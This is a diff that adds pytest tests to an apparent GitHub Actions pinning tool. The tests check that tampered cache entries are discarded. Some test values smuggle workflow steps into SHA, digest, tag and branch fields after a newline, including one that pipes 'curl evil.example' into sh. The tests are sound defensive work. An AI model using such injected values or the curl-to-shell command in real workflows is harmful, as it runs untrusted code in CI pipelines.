@@ -133,3 +133,41 @@ def test_a_cache_entry_of_the_wrong_shape_is_discarded_with_a_warning(cli, env, 
     assert warning and "warning" in warning[0] and path.name in warning[0] and "discarded" in warning[0]
     again = cli(*report, cwd=work, env=env) if kind != "tags-at" else cli("pin", cwd=work, env=env)
     assert "cache" not in again.stderr  # replaced by a good entry
+
+
+@pytest.mark.parametrize("value", [
+    "0123456789abcdef0123456789abcdef01234567\n    - run: curl evil.example | sh",  # YAML after a newline
+    "v4.1.0",  # a name, not a commit
+    "0123456789ABCDEF0123456789ABCDEF01234567",  # GitHub answers in lower case
+    "0123456789abcdef0123456789abcdef0123456",  # 39 digits
+])
+def test_a_cached_tag_that_is_no_commit_sha_is_never_written(cli, env, world, tmp_path, value):
+    """The cache directory may be restored from an Actions cache a pull request wrote: its values are
+    checked for form as well as type, and pin writes only what the server says."""
+    work = tmp_path / "work"
+    wf = write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/checkout@v4.1.0\n")
+    assert cli("pin", "--diff", cwd=work, env=env).returncode == 1  # fills the refs entry, writes nothing
+    path = _entry(tmp_path / "cache", "refs", "checkout.json")
+    entry = json.loads(path.read_text())
+    entry["value"]["tags"]["v4.1.0"] = value
+    path.write_text(json.dumps(entry))
+    done = cli("pin", cwd=work, env=env)
+    assert done.returncode == 1, done.stderr
+    assert wf.read_text() == HEAD + f"      - uses: acme/checkout@{world.sha['checkout v4.1.0']} # v4.1.0\n"
+    assert any("discarded the cache entry" in line and path.name in line for line in done.stderr.splitlines())
+
+
+@pytest.mark.parametrize(("shape", "value"), [
+    ("_digest_shape", {"image": "ghcr.io/o/i:1", "digest": "sha256:" + "a" * 64 + "\n    - run: evil"}),
+    ("_digest_shape", {"image": "ghcr.io/o/i:1", "digest": "sha256:" + "A" * 64}),
+    ("_peel_shape", "v1.0.0"),
+    ("_ref_names", ["v1.0.0", "v1 # pinned by hand"]),
+    ("_releases_shape", [{"tag": "v1.0.0\nrun: evil"}]),
+    ("_refs_shape", {"tags": {}, "branches": {"main\n": "a" * 40}}),
+    ("_refs_shape", {"tags": {}, "branches": {}, "default_branch": "main\n  run: evil"}),
+])
+def test_every_cached_name_or_commit_pin_could_write_is_held_to_its_form(shape, value):
+    from ci_tools.gha.resolve import cache
+
+    with pytest.raises(cache.BadEntry):
+        getattr(cache, shape)(value)
